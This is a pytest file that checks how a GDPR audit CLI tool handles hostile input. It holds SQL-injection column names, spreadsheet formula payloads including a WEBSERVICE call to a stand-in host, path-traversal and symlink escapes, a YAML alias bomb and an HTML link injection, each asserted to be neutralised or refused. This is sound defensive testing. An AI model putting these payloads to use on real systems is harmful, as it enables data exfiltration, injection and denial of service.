"""Hostile and broken input (issue 18): each case is one kind of problem and what the user must see.

Every case runs ``gdpr-audit check`` in-process on a tiny extract written here (hostile Parquet, XLSX
and JSON Lines files are generated into tmp_path, not committed). What must hold everywhere: no
traceback, stderr is one line or nothing, no file appears outside ``--out`` and the temporary folder,
no value of the data in an error. The older, friendlier cases are in tests/test_bad_input.py.
"""

from __future__ import annotations

import csv
import io
import os
import signal
import tempfile
import time
from pathlib import Path

import pandas as pd
import pyarrow as pa
import pyarrow.parquet as pq
import pytest

from audit_lib.cli import main
from conftest import write_files as extract

HEADER = "person_id,subject_type,collected_at\n"
GOOD = HEADER + "p1,prospect,2026-01-01\n"
ACTIVITIES = (
    "activity_id,name,purpose_id,lawful_basis,lia_ref,data_categories,recipients,retention_rule,owner,"
    "last_reviewed_at\nA001,Quotes,request_handling,pre_contractual,,identity,RCP-001,prospect_years,"
    "Sales,2026-03-05\n"
)
RECIPIENTS = (
    "recipient_id,name,role,country,dpf_certified,mechanism,derogation_reason,dpa_signed_at,"
    "tia_completed_at,last_reviewed_at,data_categories\n"
)
INJECTION = 'person_id" AS "person_id" FROM (SELECT \'p1\' AS "person_id"); copy (select 1) to \'anywhere.csv\'; --'


@pytest.fixture(autouse=True)
def _isolated(tmp_path, monkeypatch):
    """Each case in its own working folder and temporary folder, so a stray write is seen."""
    work, tmp = tmp_path / "cwd", tmp_path / "tmp"
    work.mkdir()
    tmp.mkdir()
    monkeypatch.chdir(work)
    monkeypatch.setenv("TMPDIR", str(tmp))
    monkeypatch.setattr(tempfile, "tempdir", None)


def run(tmp_path: Path, capsys, data: Path, *extra: str, out: Path | None = None) -> tuple[int, str]:
    args = ["check", "--data", str(data), "--out", str(out or tmp_path / "out"), "--quiet", *extra]
    if "--period" not in extra and "--as-of" not in extra:
        args[3:3] = ["--as-of", "2026-10-31"]
    before = _all_files(tmp_path)
    code = main(args)
    err = capsys.readouterr().err
    assert "Traceback" not in err
    written = {p for p in _all_files(tmp_path) - before if (tmp_path / "out") not in p.parents}
    assert not written, f"files written outside --out: {written}"
    return code, err


def _all_files(root: Path) -> set[Path]:
    return {p for p in root.rglob("*") if p.is_file()}


def one_line(err: str) -> str:
    lines = [ln for ln in err.splitlines() if ln.strip()]
    assert len(lines) == 1, err
    assert lines[0].startswith("gdpr-audit: error: ")
    return lines[0]


def findings(tmp_path: Path) -> pd.DataFrame:
    return pd.read_csv(tmp_path / "out" / "findings.csv", dtype=str, keep_default_na=False)


def ids(tmp_path: Path, check_id: str) -> set[str]:
    f = findings(tmp_path)
    return set(f.loc[f["check_id"] == check_id, "record_id"])


def parquet(columns: dict[str, list]) -> bytes:
    buf = io.BytesIO()
    pq.write_table(pa.table(columns), buf)
    return buf.getvalue()


def xlsx(rows: list[list]) -> bytes:
    import openpyxl

    wb = openpyxl.Workbook()
    ws = wb.active
    ws.title = "persons"
    for row in rows:
        ws.append(row)
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()


# ---------------------------------------------------------------- 1. identifiers from files never become SQL

HOSTILE_NAMES = [INJECTION, 'a"b', "it's", "x; DROP TABLE persons; --", "\"); copy (select 1) to 'x.csv' (--"]


@pytest.mark.parametrize("name", HOSTILE_NAMES)
def test_hostile_parquet_column_name_is_only_a_name(tmp_path, capsys, name):
    data = extract(
        tmp_path,
        {
            "persons.parquet": parquet(
                {"person_id": ["p1"], "subject_type": ["prospect"], "collected_at": ["2026-01-01"], name: ["v"]}
            )
        },
    )
    code, err = run(tmp_path, capsys, data)
    assert (code, err) == (0, "")
    assert findings(tmp_path).empty


@pytest.mark.parametrize("name", HOSTILE_NAMES[:2])
def test_hostile_json_lines_key_is_only_a_name(tmp_path, capsys, name):
    import json

    row = {"person_id": "p1", "subject_type": "prospect", "collected_at": "2026-01-01", name: 1}
    data = extract(tmp_path, {"persons.jsonl": json.dumps(row) + "\n"})
    assert run(tmp_path, capsys, data) == (0, "")


def test_hostile_csv_header_is_only_a_name(tmp_path, capsys):
    buf = io.StringIO()
    csv.writer(buf).writerows(
        [["person_id", "subject_type", "collected_at", INJECTION], ["p1", "prospect", "2026-01-01", "v"]]
    )
    data = extract(tmp_path, {"persons.csv": buf.getvalue()})
    assert run(tmp_path, capsys, data) == (0, "")


def test_hostile_xlsx_header_is_only_a_name(tmp_path, capsys):
    data = extract(
        tmp_path,
        {
            "persons.xlsx": xlsx(
                [["person_id", "subject_type", "collected_at", INJECTION], ["p1", "prospect", "2026-01-01", "v"]]
            )
        },
    )
    assert run(tmp_path, capsys, data) == (0, "")


def test_tmpdir_with_a_quote(tmp_path, capsys, monkeypatch):
    tmp = tmp_path / "it's tmp"
    tmp.mkdir()
    monkeypatch.setenv("TMPDIR", str(tmp))
    data = extract(tmp_path, {"persons.csv": GOOD})
    assert run(tmp_path, capsys, data) == (0, "")


def test_extract_folder_named_with_quotes(tmp_path, capsys):
    folder = tmp_path / 'o\'brien "x"'
    folder.mkdir()
    (folder / "persons.parquet").write_bytes(
        parquet({"person_id": ["p1"], "subject_type": ["prospect"], "collected_at": ["2026-01-01"]})
    )
    assert run(tmp_path, capsys, folder) == (0, "")


# ---------------------------------------------------------------- 2. formulas neutralised by content


def _with_recipient(tmp_path, name: str) -> Path:
    row = f"RCP-001,{name},processor,BE,,eea,,2025-01-01,,2026-01-01,identity\n"
    return extract(tmp_path, {"recipients.csv": RECIPIENTS + row, "processing_activities.csv": ACTIVITIES})


@pytest.mark.parametrize("name", ['"=WEBSERVICE(""http://x.example/""&B3)"', "+cmd", "@SUM(A1)", "-2+3"])
def test_transfer_inventory_recipient_formula_is_text(tmp_path, capsys, name):
    import openpyxl

    data = _with_recipient(tmp_path, name)
    assert run(tmp_path, capsys, data)[0] == 0
    ws = openpyxl.load_workbook(tmp_path / "out" / "findings.xlsx")["transfer_inventory"]
    cells = [c.value for row in ws.iter_rows() for c in row if isinstance(c.value, str)]
    assert not [c for c in cells if c[:1] in "=+-@"], cells
    assert any(c.startswith("'") for c in cells)


@pytest.mark.parametrize(
    "record, shown",
    [
        ("x;=1+1;y", "x;'=1+1;y"),
        ("a,=HYPERLINK(1)", "a,'=HYPERLINK(1)"),
        ("a; +1", "a; '+1"),
        ("b;@SUM(1)", "b;'@SUM(1)"),
    ],
)
def test_formula_after_a_separator_in_findings_csv_is_neutralised(tmp_path, capsys, record, shown):
    buf = io.StringIO()
    csv.writer(buf).writerows([["person_id", "subject_type", "collected_at"], [record, "prospect", "2020-01-01"]])
    data = extract(tmp_path, {"persons.csv": buf.getvalue()})
    assert run(tmp_path, capsys, data)[0] == 0
    text = (tmp_path / "out" / "findings.csv").read_text()
    for sep in (";", ","):
        for cell in text.split(sep):
            assert cell.strip().lstrip('"')[:1] not in ("=", "+", "@"), cell
    assert ids(tmp_path, "RET-PROSPECT-3Y") == {shown}


# ---------------------------------------------------------------- 3. nothing read outside the extract


@pytest.mark.parametrize("entry", ["../outside.csv", "{outside}", "sub/../../outside.csv"])
def test_extract_yaml_path_outside_is_refused(tmp_path, capsys, entry):
    outside = tmp_path / "outside.csv"
    outside.write_text("root:x:0:0:root:/root:/bin/bash\n")
    entry = entry.format(outside=outside)
    data = extract(tmp_path, {"persons.csv": GOOD, "extract.yaml": f"files:\n  '{entry}': salesforce_lead_api\n"})
    code, err = run(tmp_path, capsys, data)
    line = one_line(err)
    assert code == 2 and "root:" not in line and "relative to the extract folder" in line


@pytest.mark.parametrize("name", ["/etc/passwd", "../profiles/x", "sub/evil", "C:\\evil"])
def test_profile_is_chosen_by_name_only(tmp_path, capsys, name):
    data = extract(tmp_path, {"persons.csv": GOOD})
    code, err = run(tmp_path, capsys, data, "--profile", f"persons={name}")
    assert code == 2 and "is not a profile name" in one_line(err)


def test_extract_yaml_profile_name_as_path_is_refused(tmp_path, capsys):
    data = extract(tmp_path, {"Contact.csv": "Id\n1\n", "extract.yaml": "files:\n  Contact.csv: /tmp/evil\n"})
    code, err = run(tmp_path, capsys, data)
    assert code == 2 and "is not a profile name" in one_line(err)


def test_extract_yaml_profile_dir_outside_is_refused(tmp_path, capsys):
    data = extract(tmp_path, {"persons.csv": GOOD, "extract.yaml": "profile_dirs: ['../elsewhere']\n"})
    code, err = run(tmp_path, capsys, data)
    assert code == 2 and "profile_dirs" in one_line(err)


def test_symlinked_table_outside_the_extract_is_refused(tmp_path, capsys):
    outside = tmp_path / "secret.csv"
    outside.write_text(HEADER + "SECRET-ID,prospect,2020-01-01\n")
    data = extract(tmp_path, {})
    (data / "persons.csv").symlink_to(outside)
    code, err = run(tmp_path, capsys, data)
    line = one_line(err)
    assert code == 2 and "outside the extract folder" in line and "SECRET" not in line


def test_symlink_inside_a_table_folder_leading_out_is_refused(tmp_path, capsys):
    outside = tmp_path / "secret.csv"
    outside.write_text("send_id,person_id,channel,purpose,sent_at\nSECRET,p1,email,x,2026-01-01\n")
    data = extract(tmp_path, {"persons.csv": GOOD, "communications/a.csv": outside.read_text()})
    (data / "communications" / "b.csv").symlink_to(outside)
    code, err = run(tmp_path, capsys, data)
    assert code == 2 and "outside the extract folder" in one_line(err)


def test_own_profile_cannot_read_a_file_outside(tmp_path, capsys):
    outside = tmp_path / "passwd.csv"
    outside.write_text("Id,LastName\nCANARY-7,x\n")
    profile = (Path(__file__).resolve().parents[1] / "audit_lib" / "profiles" / "salesforce_lead_api.yaml").read_text()
    profile = profile.replace("name: salesforce_lead_api", "name: mine")
    data = extract(tmp_path, {"profiles/mine.yaml": profile})
    (data / "Lead_export.csv").symlink_to(outside)
    code, err = run(tmp_path, capsys, data, "--profile", "persons=mine")
    line = one_line(err)
    assert code == 2 and "outside the extract folder" in line and "CANARY" not in line


def test_dangling_symlink_is_one_line(tmp_path, capsys):
    data = extract(tmp_path, {})
    (data / "persons.csv").symlink_to(tmp_path / "gone.csv")
    code, err = run(tmp_path, capsys, data)
    assert code == 2 and "dangling" in one_line(err)


def test_symlink_loop_is_one_line(tmp_path, capsys):
    data = extract(tmp_path, {})
    (data / "persons.csv").symlink_to(data / "persons.csv")
    code, err = run(tmp_path, capsys, data)
    assert code == 2 and "persons.csv" in one_line(err)


# ---------------------------------------------------------------- 4. one cell never stops the audit


@pytest.mark.parametrize(
    "value",
    [
        "infinity",
        "-infinity",
        "epoch",
        "294247-01-01",
        "1899-12-31",
        "2201-01-01",
        "now",
        "today",
        "2026-01-01T10:00:00+99:00",
        "2026-01-01T10:00:00-14:30",
        "2026-01-01 10:00:00+1500",
        "2026-01-01T10:00:00+15",
    ],
)
def test_absurd_date_is_an_invalid_value_and_the_audit_runs(tmp_path, capsys, value):
    data = extract(tmp_path, {"persons.csv": GOOD + f"p2,prospect,{value}\n"})
    assert run(tmp_path, capsys, data) == (0, "")
    assert ids(tmp_path, "DQ-INVALID-VALUE") == {"p2"}


@pytest.mark.parametrize(
    "value", ["1900-01-01", "2200-12-31", "2026-01-01T10:00:00+14:00", "2026-01-01T10:00:00-12:00"]
)
def test_dates_on_the_bounds_are_read(tmp_path, capsys, value):
    data = extract(tmp_path, {"persons.csv": GOOD + f"p2,prospect,{value}\n"})
    assert run(tmp_path, capsys, data) == (0, "")
    assert ids(tmp_path, "DQ-INVALID-VALUE") == set()


@pytest.mark.parametrize("day", ["1800-01-01", "2500-06-30", "9999-12-31"])
def test_native_parquet_date_out_of_range_is_an_invalid_value(tmp_path, capsys, day):
    import datetime as dt

    data = extract(
        tmp_path,
        {
            "persons.parquet": parquet(
                {
                    "person_id": ["p1", "p2"],
                    "subject_type": ["prospect", "prospect"],
                    "collected_at": [dt.date(2026, 1, 1), dt.date.fromisoformat(day)],
                }
            )
        },
    )
    assert run(tmp_path, capsys, data) == (0, "")
    assert ids(tmp_path, "DQ-INVALID-VALUE") == {"p2"}


# ---------------------------------------------------------------- 5. no personal data in errors and outputs


def test_json_lines_type_drift_error_names_no_value(tmp_path, capsys):
    rows = [
        f'{{"person_id": "p{i}", "subject_type": "prospect", "collected_at": "2026-01-01", "phone": {i}}}'
        for i in range(25_000)
    ]
    rows.append(
        '{"person_id": "px", "subject_type": "prospect", "collected_at": "2026-01-01", "phone": "+32 470 12 34 56"}'
    )
    data = extract(tmp_path, {"persons.jsonl": "\n".join(rows) + "\n"})
    code, err = run(tmp_path, capsys, data)
    assert "470" not in err and "34 56" not in err
    assert code == 0 or one_line(err)


def test_json_duplicate_key_error_names_no_value(tmp_path, capsys):
    data = extract(
        tmp_path,
        {
            "persons.jsonl": '{"person_id": "p1", "email": "jan.peeters@example.be", '
            '"email": "x@example.be", "subject_type": "prospect"}\n'
        },
    )
    code, err = run(tmp_path, capsys, data)
    assert "@" not in err and "jan" not in err
    assert code == 0 or one_line(err)


def test_email_in_purpose_id_is_not_copied_into_observed(tmp_path, capsys):
    data = extract(
        tmp_path, {"processing_activities.csv": ACTIVITIES.replace("request_handling", "jan.peeters@example.be")}
    )
    assert run(tmp_path, capsys, data)[0] == 0
    f = findings(tmp_path)
    assert "A001" in set(f.loc[f["check_id"] == "LB-PURPOSE-UNDECLARED", "record_id"])
    assert "jan.peeters" not in (tmp_path / "out" / "findings.csv").read_text()


def test_stale_temporary_copy_of_a_killed_run_is_removed(tmp_path, capsys):
    stale = tmp_path / "tmp" / "gdpr-audit-999999-abc"
    stale.mkdir()
    (stale / "persons.csv").write_text("p1,Jan Peeters")
    data = extract(tmp_path, {"persons.csv": GOOD})
    assert run(tmp_path, capsys, data) == (0, "")
    assert not stale.exists()


def test_transcoded_copy_is_deleted_once_the_rows_are_typed(tmp_path, capsys, monkeypatch):
    import audit_lib.commands as commands

    seen = []
    real = commands.run_checks
    monkeypatch.setattr(
        commands,
        "run_checks",
        lambda ex: seen.extend(p for p in (tmp_path / "tmp").rglob("*") if p.is_file()) or real(ex),
    )
    data = extract(tmp_path, {"persons.csv": (HEADER + "p\xe9,prospect,2026-01-01\n").encode("cp1252")})
    assert run(tmp_path, capsys, data) == (0, "")
    assert seen == []


def test_sigterm_removes_the_temporary_copy(tmp_path, capsys, monkeypatch):
    import audit_lib.commands as commands

    def killed(extract):
        assert any((tmp_path / "tmp").iterdir())  # the run's temporary folder
        os.kill(os.getpid(), signal.SIGTERM)
        time.sleep(5)

    monkeypatch.setattr(commands, "run_checks", killed)
    data = extract(
        tmp_path, {"persons.csv": (HEADER + "p1,prospect,2026-01-01\np\xe9,prospect,2026-01-01\n").encode("cp1252")}
    )
    code = main(["check", "--data", str(data), "--as-of", "2026-10-31", "--out", str(tmp_path / "out"), "--quiet"])
    assert (code, capsys.readouterr().err) == (130, "gdpr-audit: interrupted\n")
    assert list((tmp_path / "tmp").iterdir()) == []
    assert not (tmp_path / "out").exists()


# ---------------------------------------------------------------- 6. outputs replaced whole, or not at all


def test_swap_is_one_system_call_and_the_target_always_exists(tmp_path, monkeypatch):
    from audit_lib.report import swap_into_place

    target, staging = tmp_path / "2026-10", tmp_path / ".2026-10.tmp-1"
    target.mkdir()
    (target / "index.html").write_text("old")
    staging.mkdir()
    (staging / "index.html").write_text("new")
    monkeypatch.setattr(os, "rename", lambda *a: pytest.fail("two renames: a kill between them loses it"))
    swap_into_place(staging, target)
    assert (target / "index.html").read_text() == "new" and not staging.exists()


def test_leftovers_of_killed_runs_are_cleaned(tmp_path, capsys):
    for name in (".out.tmp-999999", ".out.old-999998"):
        (tmp_path / name).mkdir()
        (tmp_path / name / "findings.csv").write_text("x")
    data = extract(tmp_path, {"persons.csv": GOOD})
    assert run(tmp_path, capsys, data) == (0, "")
    assert not (tmp_path / ".out.tmp-999999").exists() and not (tmp_path / ".out.old-999998").exists()


def test_failed_check_leaves_the_previous_out_whole(tmp_path, capsys, monkeypatch):
    import audit_lib.commands as commands

    data = extract(tmp_path, {"persons.csv": GOOD})
    assert run(tmp_path, capsys, data) == (0, "")
    before = {p.name: p.read_bytes() for p in (tmp_path / "out").iterdir()}
    (data / "persons.csv").write_text(GOOD + "p2,prospect,2026-02-01\n")

    def disk_full(*a, **k):
        raise OSError(28, "No space left on device", "manifest.json")

    monkeypatch.setattr(commands, "write_manifest", disk_full)
    code, err = run(tmp_path, capsys, data)
    assert code == 2 and "No space left on device" in one_line(err)
    assert {p.name: p.read_bytes() for p in (tmp_path / "out").iterdir()} == before
    assert [p.name for p in tmp_path.iterdir() if ".tmp-" in p.name] == []


def test_disk_full_while_writing_findings_is_one_line(tmp_path, capsys, monkeypatch):
    def disk_full(self, path, *a, **k):
        Path(path).write_bytes(b"PAR1 truncated")
        raise OSError(28, "No space left on device", str(path))

    monkeypatch.setattr(pd.DataFrame, "to_parquet", disk_full)
    data = extract(tmp_path, {"persons.csv": GOOD})
    code, err = run(tmp_path, capsys, data)
    assert code == 2 and "No space left on device" in one_line(err)
    assert not (tmp_path / "out").exists()  # no truncated findings.parquet left as if it were a result


# ---------------------------------------------------------------- 7. one line instead of a traceback


def test_unreadable_file_is_one_line(tmp_path, capsys, monkeypatch):
    from audit_lib.intake import readers

    def denied(path):
        raise PermissionError(13, "Permission denied", str(path))

    monkeypatch.setattr(readers, "sniff_csv", denied)
    data = extract(tmp_path, {"persons.csv": GOOD})
    code, err = run(tmp_path, capsys, data)
    assert code == 2 and "persons.csv: Permission denied" in one_line(err)


def test_out_is_a_file(tmp_path, capsys):
    (tmp_path / "out").write_text("x")
    data = extract(tmp_path, {"persons.csv": GOOD})
    code, err = run(tmp_path, capsys, data)
    assert code == 2 and "is a file" in one_line(err)


def test_out_under_a_file(tmp_path, capsys):
    (tmp_path / "afile").write_text("x")
    data = extract(tmp_path, {"persons.csv": GOOD})
    code, err = run(tmp_path, capsys, data, out=tmp_path / "afile" / "out")
    assert code == 2 and "afile" in one_line(err)


def test_out_in_a_read_only_folder(tmp_path, capsys, monkeypatch):
    import audit_lib.commands as commands

    monkeypatch.setattr(commands.os, "access", lambda path, mode: Path(path) != tmp_path / "ro")
    data = extract(tmp_path, {"persons.csv": GOOD})
    (tmp_path / "ro").mkdir()
    code, err = run(tmp_path, capsys, data, out=tmp_path / "ro" / "out")
    assert code == 2 and "permission denied" in one_line(err)


def test_read_only_out_at_the_swap_is_one_line(tmp_path, capsys, monkeypatch):
    from audit_lib import atomic

    def denied(*a):
        raise PermissionError(13, "Permission denied", str(tmp_path / "out"))

    monkeypatch.setattr(atomic.os, "rename", denied)
    data = extract(tmp_path, {"persons.csv": GOOD})
    code, err = run(tmp_path, capsys, data)
    assert code == 2 and "out: Permission denied" in one_line(err)
    assert [p.name for p in tmp_path.iterdir() if ".tmp-" in p.name] == []


def test_out_holding_other_files_is_not_replaced(tmp_path, capsys):
    (tmp_path / "out").mkdir()
    (tmp_path / "out" / "thesis.docx").write_text("keep me")
    data = extract(tmp_path, {"persons.csv": GOOD})
    code, err = run(tmp_path, capsys, data)
    assert code == 2 and "holds other files" in one_line(err)
    assert (tmp_path / "out" / "thesis.docx").read_text() == "keep me"


@pytest.mark.parametrize("column", ["filename", "FileName"])
def test_a_column_named_filename_is_read(tmp_path, capsys, column):
    data = extract(
        tmp_path, {"persons.csv": f"person_id,subject_type,collected_at,{column}\np1,prospect,2026-01-01,a\n"}
    )
    assert run(tmp_path, capsys, data) == (0, "")


@pytest.mark.parametrize("column", ["_file", "_row"])
@pytest.mark.parametrize("fmt", ["csv", "parquet"])
def test_a_column_with_the_tools_own_name_is_one_line(tmp_path, capsys, column, fmt):
    content = (
        f"person_id,subject_type,collected_at,{column}\np1,prospect,2026-01-01,x\n"
        if fmt == "csv"
        else parquet({"person_id": ["p1"], "subject_type": ["prospect"], "collected_at": ["2026-01-01"], column: ["x"]})
    )
    data = extract(tmp_path, {f"persons.{fmt}": content})
    code, err = run(tmp_path, capsys, data)
    assert code == 2 and f"named '{column}'" in one_line(err)


@pytest.mark.parametrize("period", ["9999-12", "26-10", "2026-13", "2026-1", "1899-12", "2026-00", "abc"])
def test_period_is_validated(tmp_path, capsys, period):
    data = extract(tmp_path, {"persons.csv": GOOD})
    code, err = run(tmp_path, capsys, data, "--period", period)
    assert code == 2 and "--period" in one_line(err)


@pytest.mark.parametrize("as_of", ["0001-01-01", "9999-12-31", "20261031"])
def test_as_of_is_validated(tmp_path, capsys, as_of):
    data = extract(tmp_path, {"persons.csv": GOOD})
    code, err = run(tmp_path, capsys, data, "--as-of", as_of)
    assert code == 2 and "--as-of" in one_line(err)


def test_sample_period_is_validated(tmp_path, capsys):
    assert main(["sample", "--out", str(tmp_path / "s"), "--period", "2026-13"]) == 2
    assert "--period" in one_line(capsys.readouterr().err)
    assert not (tmp_path / "s").exists()


@pytest.mark.parametrize(
    "content",
    ["- a\n- b\n", "just text\n", "files: [persons.csv]\n", "files:\n  x.csv: [1]\n", "profile_dirs: here\n", "42\n"],
)
def test_extract_yaml_of_the_wrong_shape(tmp_path, capsys, content):
    data = extract(tmp_path, {"persons.csv": GOOD, "x.csv": "a\n1\n", "extract.yaml": content})
    code, err = run(tmp_path, capsys, data)
    assert code == 2 and "extract.yaml" in one_line(err)


# ---------------------------------------------------------------- 8. no silent misread, no hang


def test_parquet_columns_differing_only_by_case(tmp_path, capsys):
    data = extract(
        tmp_path,
        {
            "persons.parquet": parquet(
                {"person_id": ["p1"], "Person_ID": ["p9"], "subject_type": ["prospect"], "collected_at": ["2026-01-01"]}
            )
        },
    )
    code, err = run(tmp_path, capsys, data)
    assert code == 2 and "appears twice" in one_line(err)


def test_a_100k_column_header_is_refused_quickly(tmp_path, capsys):
    header = ",".join(["person_id", "subject_type", "collected_at"] + [f"c{i}" for i in range(100_000)])
    data = extract(tmp_path, {"persons.csv": header + "\n"})
    started = time.monotonic()
    code, err = run(tmp_path, capsys, data)
    assert code == 2 and "100003 columns" in one_line(err)
    assert time.monotonic() - started < 10


def test_a_yaml_alias_bomb_in_the_policy_is_refused(tmp_path, capsys):
    lines = ['a: &a ["x","x","x","x","x","x","x","x","x"]']
    for prev, name in zip("abcdefgh", "bcdefghi"):
        lines.append(f"{name}: &{name} [" + ",".join([f"*{prev}"] * 9) + "]")
    policy = tmp_path / "policy.yaml"
    policy.write_text("\n".join(lines) + "\n")
    data = extract(tmp_path, {"persons.csv": GOOD})
    started = time.monotonic()
    code, err = run(tmp_path, capsys, data, "--policy", str(policy))
    assert code == 2 and "aliases" in one_line(err)
    assert time.monotonic() - started < 10


def test_a_yaml_alias_bomb_in_extract_yaml_is_refused(tmp_path, capsys):
    lines = ['a: &a ["x","x","x","x","x","x","x","x","x"]']
    for prev, name in zip("abcdefgh", "bcdefghi"):
        lines.append(f"{name}: &{name} [" + ",".join([f"*{prev}"] * 9) + "]")
    data = extract(tmp_path, {"persons.csv": GOOD, "extract.yaml": "\n".join(lines) + "\n"})
    code, err = run(tmp_path, capsys, data)
    assert code == 2 and "aliases" in one_line(err)


def test_an_oversized_policy_file_is_refused(tmp_path, capsys):
    policy = tmp_path / "policy.yaml"
    policy.write_text("# padding\n" * 200_000)
    data = extract(tmp_path, {"persons.csv": GOOD})
    code, err = run(tmp_path, capsys, data, "--policy", str(policy))
    assert code == 2 and "larger than" in one_line(err)


def test_separator_inside_a_quoted_header_name(tmp_path, capsys):
    data = extract(
        tmp_path, {"persons.csv": 'person_id,subject_type,collected_at,"notes; a; b; c; d"\np1,prospect,2020-01-01,x\n'}
    )
    assert run(tmp_path, capsys, data) == (0, "")
    assert ids(tmp_path, "RET-PROSPECT-3Y") == {"p1"}


@pytest.mark.parametrize(
    "name, hint",
    [
        ("consents.csv.gz", "decompress"),
        ("persons.csv.gz", "decompress"),
        ("person.csv", "persons.csv"),
        ("consent.parquet", "consents.parquet"),
    ],
)
def test_a_near_miss_file_is_not_silently_ignored(tmp_path, capsys, name, hint):
    data = extract(tmp_path, {"persons.csv": GOOD, name: b"\x1f\x8b" if name.endswith(".gz") else GOOD})
    if name == "person.csv":
        (data / "persons.csv").unlink()
    code, err = run(tmp_path, capsys, data)
    assert code == 2 and hint in one_line(err)


def test_breach_id_with_a_link_is_not_clickable_in_the_chart(tmp_path):
    import datetime as dt

    from audit_lib.extract import Extract
    from audit_lib.insights.rights import breach_timeline
    from audit_lib.nb import Run
    from audit_lib.run import run_checks

    hostile = '<a href="https://evil.example/">BR-1</a>'
    data = extract(
        tmp_path,
        {
            "breaches.csv": "breach_id,detected_at,risk,notified_authority_at,subjects_notified_at,"
            f'delay_reason\n"{hostile.replace(chr(34), chr(34) * 2)}",'
            "2026-10-01T09:00:00Z,high_risk,2026-10-05T09:00:00Z,2026-10-06T09:00:00Z,\n"
        },
    )
    with Extract(data, dt.date(2026, 10, 31)) as ex:
        fig = breach_timeline(Run.from_results(ex, run_checks(ex)))
    labels = [str(y) for trace in fig.data for y in trace.y]
    assert labels == ['&lt;a href="https://evil.example/"&gt;BR-1&lt;/a&gt;']
